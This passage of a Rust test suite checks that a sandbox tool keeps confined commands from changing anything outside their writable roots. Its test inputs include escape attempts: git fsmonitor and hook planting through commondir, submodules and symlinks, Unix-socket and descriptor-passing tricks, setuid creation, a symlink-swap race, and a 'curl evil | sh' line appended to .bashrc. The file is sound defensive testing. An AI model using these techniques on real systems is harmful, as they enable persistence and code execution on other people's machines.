//! A confined command changes nothing outside its writable roots, directly
//! or through another process: Unix sockets of outside daemons, file
//! metadata, protected paths inside the roots, other terminals, keyrings,
//! and a writable root swapped while the run starts. Root-only cases skip
//! with the reason when not root.
use crate::support::*;
use serde_json::Value;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

/// A workspace, a directory outside every writable root, and a temp dir.
struct Dirs {
    _root: tempfile::TempDir,
    ws: PathBuf,
    outside: PathBuf,
    tmp: PathBuf,
}

fn dirs() -> Dirs {
    let root = tempfile::tempdir().unwrap();
    let [ws, outside, tmp] = ["ws", "outside", "tmp"].map(|n| root.path().join(n));
    for d in [&ws, &outside, &tmp] {
        std::fs::create_dir(d).unwrap();
    }
    Dirs {
        _root: root,
        ws,
        outside,
        tmp,
    }
}

fn p(path: &Path) -> &str {
    path.to_str().unwrap()
}

/// Runs `dsh-exec MODE ARGS -- SCRIPT` in `d.ws` with `$TMPDIR` = `d.tmp`.
fn confined(d: &Dirs, mode: &str, args: &[&str], script: &str) -> Outcome {
    confined_in(Tier::MountNamespace, d, mode, args, script)
}

/// [`confined`] in `tier`.
fn confined_in(tier: Tier, d: &Dirs, mode: &str, args: &[&str], script: &str) -> Outcome {
    Test::in_tier(tier)
        .env("TMPDIR", &d.tmp)
        .args(["-s", mode, "-C", p(&d.ws)])
        .args(args)
        .args(["--", script])
        .run()
}

/// The JSON result of `script` run in workspace-write with the temp dir
/// read-only and no global git config: how the submodule and git-dir
/// plants are tried.
fn planted_run(tier: Tier, d: &Dirs, script: &str) -> Value {
    confined_in(
        tier,
        d,
        "workspace-write",
        &[
            "--json",
            "--no-temp-write",
            "-e",
            "GIT_CONFIG_GLOBAL=/dev/null",
        ],
        script,
    )
    .json()
}

fn is_root() -> bool {
    nix::unistd::geteuid().is_root()
}

fn have(tool: &str) -> bool {
    Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()
        .is_ok_and(|o| o.status.success())
}

/// A server outside the sandbox, killed when dropped.
struct Server(Child);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Starts `python3 -c SCRIPT ARGS` and waits for `ready` to exist.
fn python_server(script: &str, args: &[&str], ready: &Path) -> Server {
    let child = Command::new("python3")
        .args(["-c", script])
        .args(args)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let server = Server(child);
    poll_until(Duration::from_secs(10), || ready.exists().then_some(()))
        .expect("the server started");
    server
}

#[test]
fn a_tmux_server_outside_cannot_be_made_to_run_a_command() {
    if !have("tmux") {
        eprintln!("skipped: tmux is not installed");
        return;
    }
    let d = dirs();
    let sock = d.outside.join("tmux.sock");
    let planted = d.outside.join("planted");
    let status = Command::new("tmux")
        .args(["-S", p(&sock), "new-session", "-d", "sleep 300"])
        .status()
        .unwrap();
    assert!(status.success());
    let attack = format!("tmux -S {} run-shell 'touch {}'", p(&sock), p(&planted));
    let out = confined(&d, "read-only", &["--network", "deny", "--json"], &attack);
    let refused = !planted.exists();
    // With the socket allowed, the same command reaches the server: the
    // gate is what stopped it.
    let allowed = confined(
        &d,
        "read-only",
        &["--network", "deny", "--allow-unix-socket", p(&sock)],
        &attack,
    );
    let reached = planted.exists();
    let _ = Command::new("tmux")
        .args(["-S", p(&sock), "kill-server"])
        .status();
    assert!(refused, "the tmux server ran the command: {}", out.stdout);
    let v = out.json();
    assert_ne!(v["exit_code"], 0, "{v}");
    assert_eq!(v["sandbox"]["denied"], true, "{v}");
    assert!(reached, "with --allow-unix-socket: {}", allowed.stdout);
}

/// An outside server that sends every client a writable descriptor of an
/// outside file (SCM_RIGHTS).
const FD_PASSER: &str = r#"
import socket, sys, os, array
path, target, ready = sys.argv[1:4]
s = socket.socket(socket.AF_UNIX); s.bind(path); s.listen(5)
open(ready, "w").close()
while True:
    c, _ = s.accept()
    fd = os.open(target, os.O_WRONLY)
    c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
    os.close(fd); c.close()
"#;

#[test]
fn a_descriptor_passing_server_outside_hands_out_nothing() {
    let d = dirs();
    let sock = d.outside.join("fd.sock");
    let target = d.outside.join("target");
    std::fs::write(&target, "original\n").unwrap();
    let ready = d.outside.join("ready");
    let _server = python_server(FD_PASSER, &[p(&sock), p(&target), p(&ready)], &ready);
    let client = format!(
        r#"python3 -c '
import socket, array, os
s = socket.socket(socket.AF_UNIX); s.connect("{}")
msg, anc, _, _ = s.recvmsg(1, 64)
fd = array.array("i", anc[0][2])[0]
os.write(fd, b"overwritten\n")
'"#,
        p(&sock)
    );
    for mode in ["read-only", "workspace-write"] {
        let out = confined(&d, mode, &[], &client);
        assert_ne!(out.status, 0, "{mode}: {}", out.stdout);
        assert!(
            out.stdout.contains("PermissionError"),
            "{mode}: {}",
            out.stdout
        );
    }
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "original\n");
}

#[test]
fn sockets_the_command_makes_in_the_workspace_work() {
    let d = dirs();
    // A pathname socket, server and client both inside.
    let script = r#"python3 -c '
import socket, threading
srv = socket.socket(socket.AF_UNIX); srv.bind("inside.sock"); srv.listen(1)
def serve():
    c, _ = srv.accept(); c.sendall(b"pong"); c.close()
threading.Thread(target=serve).start()
s = socket.socket(socket.AF_UNIX); s.connect("inside.sock"); print(s.recv(4).decode())
'"#;
    let out = confined(&d, "workspace-write", &["--network", "deny"], script);
    assert_eq!(
        (out.stdout.as_str(), out.status),
        ("pong\n[exit code: 0]\n", 0)
    );
    // multiprocessing.Manager listens on an abstract socket it owns.
    let manager = r#"python3 -c '
from multiprocessing import Manager
with Manager() as m:
    d = m.dict(); d["k"] = 42; print(d["k"])
'"#;
    let out = confined(&d, "workspace-write", &[], manager);
    assert_eq!(
        (out.stdout.as_str(), out.status),
        ("42\n[exit code: 0]\n", 0)
    );
}

/// An abstract Unix socket held by a process outside the run.
#[test]
fn an_abstract_socket_outside_is_refused() {
    let d = dirs();
    let ready = d.outside.join("ready");
    let name = format!("dsh-exec-test-{}", std::process::id());
    let server = r#"
import socket, sys
s = socket.socket(socket.AF_UNIX); s.bind("\0" + sys.argv[1]); s.listen(5)
open(sys.argv[2], "w").close()
while True:
    c, _ = s.accept(); c.sendall(b"outside"); c.close()
"#;
    let _server = python_server(server, &[&name, p(&ready)], &ready);
    let client = format!(
        r#"python3 -c '
import socket
s = socket.socket(socket.AF_UNIX); s.connect("\0{name}"); print(s.recv(7))
'"#
    );
    let out = confined(&d, "read-only", &[], &client);
    assert!(out.stdout.contains("PermissionError"), "{}", out.stdout);
    assert_ne!(out.status, 0);
}

#[test]
fn a_server_outside_listening_in_a_writable_root_is_not_reached() {
    // The temp dir is a writable root; a server outside listens there (as
    // tmux, X11 and ssh-agent do in /tmp).
    let d = dirs();
    let sock = d.tmp.join("daemon.sock");
    let ready = d.outside.join("ready");
    let server = r#"
import socket, sys
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(5)
open(sys.argv[2], "w").close()
while True:
    c, _ = s.accept(); c.sendall(b"outside"); c.close()
"#;
    let _server = python_server(server, &[p(&sock), p(&ready)], &ready);
    let client = format!(
        r#"python3 -c '
import socket
s = socket.socket(socket.AF_UNIX); s.connect("{}"); print(s.recv(7))
'"#,
        p(&sock)
    );
    for tier in tiers() {
        let out = confined_in(tier, &d, "workspace-write", &["--json"], &client);
        let v = out.json();
        assert!(
            v["stderr"]["text"]
                .as_str()
                .unwrap()
                .contains("PermissionError"),
            "{tier:?}: {v}"
        );
        assert_eq!(v["exit_code"], 1, "{tier:?}: {v}");
    }
}

#[test]
fn a_pathname_socket_named_like_an_abstract_one_is_no_decoy() {
    // A socket bound at the relative path "@NAME" prints in /proc/net/unix
    // exactly like the abstract "\0NAME" an outside server listens on.
    let d = dirs();
    let ready = d.outside.join("ready");
    let name = format!("dsh-exec-decoy-{}", std::process::id());
    let server = r#"
import socket, sys
s = socket.socket(socket.AF_UNIX); s.bind("\0" + sys.argv[1]); s.listen(5)
open(sys.argv[2], "w").close()
while True:
    c, _ = s.accept(); c.sendall(b"outside"); c.close()
"#;
    let _server = python_server(server, &[&name, p(&ready)], &ready);
    let client = format!(
        r#"python3 -c '
import socket
decoy = socket.socket(socket.AF_UNIX); decoy.bind("@{name}"); decoy.listen(1)
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("\0{name}"); print(s.recv(7))
except OSError as e:
    print("refused", e.errno)
'"#
    );
    let out = confined(&d, "workspace-write", &["--network", "deny"], &client);
    assert_eq!(
        out.stdout,
        format!("refused 13\n[sandbox: denied connect to @{name}]\n[exit code: 0]\n")
    );
}

#[test]
fn metadata_outside_the_roots_stays_as_it_was() {
    let d = dirs();
    let file = d.outside.join("f");
    std::fs::write(&file, "x").unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    let before = std::fs::metadata(&file).unwrap();
    for (tier, mode) in tiers()
        .into_iter()
        .flat_map(|t| [(t, "read-only"), (t, "workspace-write")])
    {
        for attack in [
            format!("chmod 0777 {}", p(&file)),
            format!("touch -d 2001-01-01 {}", p(&file)),
            format!("chown 0:0 {}", p(&file)),
            // A descriptor opened for reading must not change the file either.
            format!(
                "python3 -c 'import os; fd = os.open(\"{}\", os.O_RDONLY); os.fchmod(fd, 0o777)'",
                p(&file)
            ),
        ] {
            let out = confined_in(tier, &d, mode, &[], &attack);
            assert_ne!(out.status, 0, "{tier:?} {mode}: {attack}: {}", out.stdout);
        }
    }
    let after = std::fs::metadata(&file).unwrap();
    assert_eq!(after.mode(), before.mode());
    assert_eq!(after.mtime(), before.mtime());
    assert_eq!((after.uid(), after.gid()), (before.uid(), before.gid()));
}

#[test]
fn chown_to_root_of_an_outside_setuid_file_keeps_its_mode_and_owner() {
    if !is_root() {
        eprintln!("skipped: needs root (a setuid file of another owner)");
        return;
    }
    let d = dirs();
    let file = d.outside.join("suid");
    std::fs::write(&file, "#!/bin/sh\n").unwrap();
    nix::unistd::chown(&file, Some(1000.into()), Some(1000.into())).unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o4755)).unwrap();
    for tier in tiers() {
        let out = confined_in(
            tier,
            &d,
            "read-only",
            &[],
            &format!("chown root {}", p(&file)),
        );
        assert_ne!(out.status, 0, "{tier:?}: {}", out.stdout);
        let m = std::fs::metadata(&file).unwrap();
        assert_eq!((m.mode() & 0o7777, m.uid(), m.gid()), (0o4755, 1000, 1000));
    }
}

#[test]
fn ordinary_metadata_work_inside_the_workspace_works() {
    for tier in tiers() {
        let d = dirs();
        let script = "echo x > a && chmod +x a && install -m 755 a b && mkdir src && echo y > src/f \
            && touch -d 2001-01-01 src/f && cp -a src copy && tar -cpf t.tar src \
            && mkdir out && tar -xpf t.tar -C out && setfattr -n user.k -v v a 2>/dev/null; \
            stat -c '%a %n' a b copy/f out/src/f && chmod u+s a; echo setuid=$?";
        let out = confined_in(tier, &d, "workspace-write", &[], script);
        let real_ws = std::fs::canonicalize(&d.ws).unwrap();
        assert_eq!(
            out.stdout,
            format!(
                "755 a\n755 b\n644 copy/f\n644 out/src/f\nsetuid=1\n[stderr]\n\
                 chmod: changing permissions of 'a': Operation not permitted\n\
                 [sandbox: denied chmod of {}/a]\n[exit code: 0]\n",
                p(&real_ws)
            ),
            "{tier:?}"
        );
        let copied = std::fs::metadata(d.ws.join("copy/f")).unwrap();
        assert_eq!(
            copied.mtime(),
            std::fs::metadata(d.ws.join("src/f")).unwrap().mtime()
        );
        // set-group-ID on a directory is fine, on a file it is not.
        let out = confined_in(
            tier,
            &d,
            "workspace-write",
            &[],
            "mkdir g && chmod g+s g && stat -c %A g && chmod g+s a; echo file=$?",
        );
        assert!(
            out.stdout.starts_with("drwxr-sr-x\nfile=1\n"),
            "{tier:?}: {}",
            out.stdout
        );
    }
}

#[test]
fn no_set_user_id_file_is_made_at_creation_either() {
    // open(O_CREAT) and mknod take a mode; the kernel keeps its set-user-ID
    // bit for a new file, and a later write by root would not clear it.
    let script = "python3 - <<'EOF'
import os, ctypes, stat
for name, call in [
    ('open-suid', lambda: os.close(os.open('s1', os.O_CREAT | os.O_WRONLY, 0o4755))),
    ('open-sgid', lambda: os.close(os.open('s2', os.O_CREAT | os.O_WRONLY, 0o2755))),
    ('tmpfile', lambda: os.close(os.open('.', os.O_TMPFILE | os.O_WRONLY, 0o4755))),
    ('mknod', lambda: os.mknod('s3', stat.S_IFREG | 0o4755)),
    ('plain', lambda: os.close(os.open('plain', os.O_CREAT | os.O_WRONLY, 0o755))),
    ('mkdir-sgid', lambda: os.mkdir('d', 0o2755)),
]:
    try:
        call(); print(name, 'ok')
    except OSError as e:
        print(name, e.errno)
libc = ctypes.CDLL(None, use_errno=True)
how = (ctypes.c_uint64 * 3)(os.O_CREAT | os.O_WRONLY, 0o4755, 0)
rc = libc.syscall(437, -100, b's4', how, 24)
print('openat2', rc, ctypes.get_errno())
EOF
ls";
    for tier in tiers() {
        let d = dirs();
        let out = confined_in(tier, &d, "workspace-write", &[], script);
        assert_eq!(
            out.stdout,
            "open-suid 1\nopen-sgid 1\ntmpfile 1\nmknod 1\nplain ok\nmkdir-sgid ok\nopenat2 -1 38\nd\nplain\n[exit code: 0]\n",
            "{tier:?}"
        );
    }
}

#[test]
fn a_confined_command_makes_no_user_namespace() {
    for tier in tiers() {
        let d = dirs();
        let out = confined_in(
            tier,
            &d,
            "workspace-write",
            &[],
            "unshare -U true 2>/dev/null; echo unshare=$?; \
             python3 -c 'import ctypes, os; l = ctypes.CDLL(None, use_errno=True); print(l.unshare(0x10000000), os.strerror(ctypes.get_errno()))'",
        );
        assert_eq!(
            out.stdout, "unshare=1\n-1 Operation not permitted\n[exit code: 0]\n",
            "{tier:?}"
        );
    }
}

/// A repository in `dir` with one commit.
fn repository(dir: &Path) {
    let git = |args: &[&str]| {
        let s = Command::new("git")
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .stdout(Stdio::null())
            .status()
            .unwrap();
        assert!(s.success(), "git {args:?}");
    };
    git(&["init", "-q"]);
    git(&[
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@t",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "init",
    ]);
}

#[test]
fn a_planted_git_config_or_hook_does_not_reach_the_next_git_run() {
    if !have("git") {
        eprintln!("skipped: git is not installed");
        return;
    }
    let d = dirs();
    repository(&d.ws);
    let config = std::fs::read(d.ws.join(".git/config")).unwrap();
    let hook = d.ws.join(".git/hooks/pre-commit");
    let plant = format!(
        "git config core.fsmonitor 'touch {o}/ran'; printf '#!/bin/sh\\ntouch {o}/ran\\n' > .git/hooks/pre-commit; \
         mv .git .git-moved; mkdir -p sub/.git; true",
        o = p(&d.outside)
    );
    let out = confined(&d, "workspace-write", &["--json"], &plant);
    assert_eq!(out.status, 0, "{}", out.stdout);
    assert_eq!(std::fs::read(d.ws.join(".git/config")).unwrap(), config);
    assert!(!hook.exists(), "a hook was planted");
    assert!(d.ws.join(".git/HEAD").exists(), ".git was moved away");
    // Work inside the repository goes on as usual.
    let work = "git -c user.name=t -c user.email=t@t commit -q --allow-empty -m two && git branch b \
        && git stash list && git log --oneline | wc -l";
    let out = confined(
        &d,
        "workspace-write",
        &["-e", "GIT_CONFIG_GLOBAL=/dev/null"],
        work,
    );
    assert_eq!(
        (out.stdout.as_str(), out.status),
        ("2\n[exit code: 0]\n", 0)
    );
    // A repository the run makes itself is its own.
    let out = confined(
        &d,
        "workspace-write",
        &["-e", "GIT_CONFIG_GLOBAL=/dev/null"],
        "mkdir fresh && cd fresh && git init -q --shared=group && git config user.name x && echo ok",
    );
    assert_eq!(out.stdout, "ok\n[exit code: 0]\n");
    // The next git outside runs nothing planted.
    let status = Command::new("git")
        .args(["status", "--short"])
        .current_dir(&d.ws)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(status.status.success());
    assert!(!d.outside.join("ran").exists());
}

#[test]
fn a_commondir_or_a_registered_submodule_plants_nothing_either() {
    if !have("git") {
        eprintln!("skipped: git is not installed");
        return;
    }
    let git_status = |dir: &Path| {
        let out = Command::new("git")
            .args(["status", "--short"])
            .current_dir(dir)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    for tier in tiers() {
        let d = dirs();
        repository(&d.ws);
        let ran = d.outside.join("ran");
        // .git/commondir would make git read config and hooks elsewhere.
        let commondir = format!(
            "mkdir -p .git/evil && cp -r .git/objects .git/refs .git/HEAD .git/evil/ && cat .git/config > .git/evil/config \
             && printf '[core]\\n\\tfsmonitor = \"touch {ran}; false #\"\\n' >> .git/evil/config && echo evil > .git/commondir; true",
            ran = p(&ran)
        );
        let out = confined_in(
            tier,
            &d,
            "workspace-write",
            &["--no-temp-write"],
            &commondir,
        );
        assert_eq!(out.status, 0, "{tier:?}: {}", out.stdout);
        assert!(
            !d.ws.join(".git/commondir").exists(),
            "{tier:?}: commondir stayed"
        );
        git_status(&d.ws);
        assert!(!ran.exists(), "{tier:?}: the commondir config ran");
        // A new repository with its own fsmonitor, added to the index as a
        // gitlink: git status recurses into it.
        let submodule = format!(
            "mkdir evil && cd evil && git init -q && git config core.fsmonitor 'touch {ran}; false #' \
             && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x && cd .. \
             && printf '[submodule \"evil\"]\\n\\tpath = evil\\n\\turl = ./evil\\n' > .gitmodules \
             && git update-index --add --cacheinfo 160000,$(git -C evil rev-parse HEAD),evil",
            ran = p(&ran)
        );
        let v = planted_run(tier, &d, &submodule);
        assert_eq!(v["exit_code"], 0, "{tier:?}: {v}");
        let changes = v["sandbox"]["protected_changes"].as_array().unwrap();
        assert!(
            changes
                .iter()
                .any(|c| c["path"] == p(&d.ws.join("evil/.git"))
                    && c["change"] == "quarantined"
                    && c["restored"] == true),
            "{tier:?}: {v}"
        );
        git_status(&d.ws);
        assert!(!ran.exists(), "{tier:?}: the submodule's fsmonitor ran");
        // The same through a `.git` file naming a git directory elsewhere
        // in the workspace, and through one reached by a symlink.
        for (name, gitdir, quarantined) in [
            ("evil2", "../hidden2.git", "evil2/.git"),
            ("evil3", "../link3/hidden3.git", "evil3/.git"),
        ] {
            let planted = format!(
                "mkdir -p {name} real3 && git init -q --separate-git-dir {real} {name} \
                 && git -C {name} config core.fsmonitor 'touch {ran}; false #' \
                 && git -C {name} -c user.email=a@b -c user.name=a commit -q --allow-empty -m x \
                 && {link} printf 'gitdir: {gitdir}\\n' > {name}/.git \
                 && git update-index --add --cacheinfo 160000,$(git -C {name} rev-parse HEAD),{name}",
                real = gitdir.trim_start_matches("../").replace("link3/", "real3/"),
                link = if name == "evil3" {
                    "ln -s real3 link3 &&"
                } else {
                    ""
                },
                ran = p(&ran)
            );
            let v = planted_run(tier, &d, &planted);
            assert_eq!(v["exit_code"], 0, "{tier:?} {name}: {v}");
            let want = d.ws.join(quarantined);
            let changes = v["sandbox"]["protected_changes"].as_array().unwrap();
            assert!(
                changes.iter().any(|c| c["path"] == p(&want)
                    && c["change"] == "quarantined"
                    && c["restored"] == true),
                "{tier:?} {name}: {v}"
            );
            git_status(&d.ws);
            assert!(!ran.exists(), "{tier:?}: {name}'s fsmonitor ran");
        }
        // More ways to the same end: `.git` a symlink to a git directory
        // in the temp dir; a symlinked hook; a submodule of a submodule.
        let sub = |name: &str| {
            format!(
                "mkdir -p {name} && git -C {name} init -q \
                 && git -C {name} -c user.email=a@b -c user.name=a commit -q --allow-empty -m x"
            )
        };
        let register = |name: &str| {
            format!(
                "git update-index --add --cacheinfo 160000,$(git -C {name} rev-parse HEAD),{name}"
            )
        };
        let fsmonitor = |name: &str| {
            format!(
                "git -C {name} config core.fsmonitor 'touch {}; false #'",
                p(&ran)
            )
        };
        let cases = [
            (
                "evil4",
                format!(
                    "{} && {} && mkdir -p gd && mv evil4/.git gd/evil4 && ln -s $PWD/gd/evil4 evil4/.git && {}",
                    sub("evil4"),
                    fsmonitor("evil4"),
                    register("evil4")
                ),
                "evil4/.git",
            ),
            (
                "evil5",
                format!(
                    "{} && printf '#!/bin/sh\\ntouch {}\\n' > h.sh && chmod +x h.sh \
                     && ln -s ../../../h.sh evil5/.git/hooks/post-checkout && {}",
                    sub("evil5"),
                    p(&ran),
                    register("evil5")
                ),
                "evil5/.git",
            ),
            (
                "evil6",
                format!(
                    "{} && {} && {} && cd evil6 && {} && cd .. && {}",
                    sub("evil6"),
                    sub("evil6/inner"),
                    fsmonitor("evil6/inner"),
                    register("inner"),
                    register("evil6")
                ),
                "evil6/inner/.git",
            ),
        ];
        // A gitlink registered (and committed) before the run, its
        // worktree empty: the run only fills it in; the index is unchanged.
        let pre = format!(
            "{} && {} && rm -rf evil7/.git",
            sub("evil7"),
            register("evil7")
        );
        let status = std::process::Command::new("bash")
            .args(["-c", &pre])
            .current_dir(&d.ws)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .status()
            .unwrap();
        assert!(status.success());
        let mut cases = cases.to_vec();
        cases.push((
            "evil7",
            format!("git -C evil7 init -q && {}", fsmonitor("evil7")),
            "evil7/.git",
        ));
        for (name, planted, quarantined) in cases {
            let v = planted_run(tier, &d, &planted);
            assert_eq!(v["exit_code"], 0, "{tier:?} {name}: {v}");
            let want = d.ws.join(quarantined);
            let changes = v["sandbox"]["protected_changes"].as_array().unwrap();
            assert!(
                changes
                    .iter()
                    .any(|c| c["path"] == p(&want) && c["change"] == "quarantined"),
                "{tier:?} {name}: {v}"
            );
            git_status(&d.ws);
            assert!(!ran.exists(), "{tier:?}: {name} ran");
        }
    }
}

#[test]
fn repositories_directly_in_the_temp_dir_are_protected_deeper_ones_are_not_searched() {
    if !have("git") {
        eprintln!("skipped: git is not installed");
        return;
    }
    let d = dirs();
    let [clone, deep] = [d.tmp.join("clone"), d.tmp.join("a/b")];
    for r in [&clone, &deep] {
        std::fs::create_dir_all(r).unwrap();
        repository(r);
    }
    let out = Test::new()
        .env("TMPDIR", &d.tmp)
        .args([
            "explain",
            "-s",
            "workspace-write",
            "-C",
            p(&d.ws),
            "--",
            "true",
        ])
        .run();
    let tmp = std::fs::canonicalize(&d.tmp).unwrap();
    let line = |path: &str| {
        out.stdout.lines().any(|l| {
            l.split_whitespace()
                .any(|w| w == tmp.join(path).to_str().unwrap())
        })
    };
    assert!(
        line("clone/.git/config") && line("clone/.git/hooks"),
        "{}",
        out.stdout
    );
    assert!(!line("a/b/.git/config"), "{}", out.stdout);
    // The protection holds for a real run.
    let config = std::fs::read(clone.join(".git/config")).unwrap();
    let out = confined(
        &d,
        "workspace-write",
        &[],
        &format!(
            "echo '[core]fsmonitor=x' >> {}/.git/config; true",
            p(&clone)
        ),
    );
    assert_eq!(out.status, 0, "{}", out.stdout);
    assert_eq!(std::fs::read(clone.join(".git/config")).unwrap(), config);
}

/// A directory outside with files in it, and a listing to compare.
fn victim(dir: &Path) -> Vec<String> {
    for sub in ["git", "fish", "dsh-exec", "hooks"] {
        std::fs::create_dir_all(dir.join(sub)).unwrap();
        std::fs::write(dir.join(sub).join("important"), "keep\n").unwrap();
    }
    std::fs::write(dir.join("config"), "[user]\n\tname = victim\n").unwrap();
    listing(dir)
}

fn listing(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let path = e.path();
            let text = std::fs::read_to_string(&path).unwrap_or_default();
            out.push(format!("{} {text}", path.display()));
            if e.file_type().unwrap().is_dir() {
                stack.push(path);
            }
        }
    }
    out.sort();
    out
}

#[test]
fn undoing_a_run_follows_no_symlink_it_planted() {
    // A created protected path below a symlink the run put in place
    // ($HOME/.config -> outside) is removed as the symlink, never through it.
    let d = dirs();
    let home = d.ws.join("home");
    std::fs::create_dir(&home).unwrap();
    let outside = d.outside.join("victim");
    let before = victim(&outside);
    for tier in tiers() {
        let out = Test::in_tier(tier)
            .env("TMPDIR", &d.tmp)
            .env("HOME", &home)
            .args(["-s", "workspace-write", "--json", "-C", p(&d.ws), "--"])
            .arg(format!("ln -s {} home/.config", p(&outside)))
            .run();
        let v = out.json();
        assert_eq!(listing(&outside), before, "{tier:?}: {v}");
        assert!(
            !home.join(".config").exists(),
            "{tier:?}: the planted symlink stayed"
        );
        let changes = v["sandbox"]["protected_changes"].as_array().unwrap();
        assert!(
            changes.iter().any(|c| c["path"] == p(&home.join(".config"))
                && c["change"] == "replaced"
                && c["restored"] == true),
            "{tier:?}: {v}"
        );
    }
}

#[test]
fn restoring_protected_files_without_a_mount_namespace_follows_no_symlink() {
    if !have("git") {
        eprintln!("skipped: git is not installed");
        return;
    }
    if !tiers().contains(&Tier::Gate) {
        eprintln!("skipped: needs a run without a mount namespace (setpriv)");
        return;
    }
    let d = dirs();
    repository(&d.ws);
    let config = std::fs::read(d.ws.join(".git/config")).unwrap();
    let outside = d.outside.join("victim");
    let before = victim(&outside);
    for attack in [
        format!(
            "mv .git/hooks .git/hooks.orig && ln -s {}/hooks .git/hooks",
            p(&outside)
        ),
        format!("mv .git .git.real && ln -s {} .git", p(&outside)),
    ] {
        let out = confined_in(Tier::Gate, &d, "workspace-write", &["--json"], &attack);
        let v = out.json();
        assert_eq!(v["exit_code"], 0, "{attack}: {v}");
        assert_eq!(listing(&outside), before, "{attack}: {v}");
        let git = std::fs::symlink_metadata(d.ws.join(".git")).unwrap();
        assert!(git.is_dir(), "{attack}: .git is not the directory again");
        assert!(
            d.ws.join(".git/hooks").symlink_metadata().unwrap().is_dir(),
            "{attack}"
        );
        assert_eq!(
            std::fs::read(d.ws.join(".git/config")).unwrap(),
            config,
            "{attack}"
        );
        assert!(
            !d.ws.join(".git/hooks.orig").exists() && !d.ws.join(".git.real").exists(),
            "{attack}"
        );
    }
}

#[test]
fn shell_start_up_files_in_a_writable_home_stay_as_they_were() {
    let d = dirs();
    let home = d.ws.join("home");
    std::fs::create_dir(&home).unwrap();
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    let out = Test::new()
        .env("TMPDIR", &d.tmp)
        .env("HOME", &home)
        .args(["-s", "workspace-write", "--json", "-C", p(&d.ws), "--"])
        .arg("echo 'curl evil | sh' >> home/.bashrc; echo 'x' > home/.zshrc; ls -a home | grep -c zshrc")
        .run();
    let v = out.json();
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    assert!(!home.join(".zshrc").exists(), "a new start-up file stayed");
    let changes = v["sandbox"]["protected_changes"].as_array().unwrap();
    assert!(
        changes.iter().any(|c| c["path"] == p(&home.join(".zshrc"))
            && c["change"] == "created"
            && c["restored"] == true),
        "{v}"
    );
}

#[test]
fn a_writable_root_reached_through_a_symlink_on_the_way_grants_nothing() {
    // An earlier run planted ws/cache -> outside; a later run is asked for
    // --writable-root ws/cache/sub.
    let d = dirs();
    std::fs::create_dir(d.outside.join("sub")).unwrap();
    std::os::unix::fs::symlink(&d.outside, d.ws.join("cache")).unwrap();
    let asked = d.ws.join("cache/sub");
    let out = confined(
        &d,
        "workspace-write",
        &["--json", "--writable-root", p(&asked)],
        &format!("touch {}/x", p(&asked)),
    );
    let v = out.json();
    assert!(!d.outside.join("sub/x").exists(), "written outside: {v}");
    let explained = Test::new()
        .env("TMPDIR", &d.tmp)
        .args(["explain", "--json", "-s", "workspace-write", "-C", p(&d.ws)])
        .args(["--writable-root", p(&asked), "--", "true"])
        .run()
        .json();
    let skipped = explained["sandbox"]["skipped"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(
        skipped.iter().any(|s| s["path"] == p(&asked)
            && s["reason"]
                .as_str()
                .unwrap()
                .contains("reached through a symlink")),
        "{explained}"
    );
}

#[test]
fn a_writable_root_swapped_for_a_symlink_while_runs_start_grants_nothing_outside() {
    use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};
    let d = dirs();
    let root = d.ws.join("cache");
    let link = d.ws.join("cache-link");
    std::fs::create_dir(&root).unwrap();
    std::os::unix::fs::symlink(&d.outside, &link).unwrap();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let (root, link, stop) = (root.clone(), link.clone(), stop.clone());
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let _ = renameat2(
                    AT_FDCWD,
                    &root,
                    AT_FDCWD,
                    &link,
                    RenameFlags::RENAME_EXCHANGE,
                );
            }
        })
    };
    let other_ws = d.tmp.join("ws2");
    std::fs::create_dir(&other_ws).unwrap();
    for i in 0..300 {
        let _ = Test::new()
            .env("TMPDIR", &d.tmp)
            .args([
                "-s",
                "workspace-write",
                "--no-temp-write",
                "-C",
                p(&other_ws),
            ])
            .args(["--writable-root", p(&root), "--"])
            .arg(format!("touch {}/x{i} 2>/dev/null; true", p(&d.outside)))
            .run();
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapper.join().unwrap();
    let written: Vec<_> = std::fs::read_dir(&d.outside)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert!(written.is_empty(), "written outside: {written:?}");
}

#[test]
fn under_i_the_terminal_and_redirected_files_keep_their_owner_and_mode() {
    let d = dirs();
    let target = d.outside.join("target");
    for tier in tiers() {
        std::fs::write(&target, "").unwrap();
        std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o644)).unwrap();
        let attack = "python3 -c '
import os
for fd in (0, 1, 2):
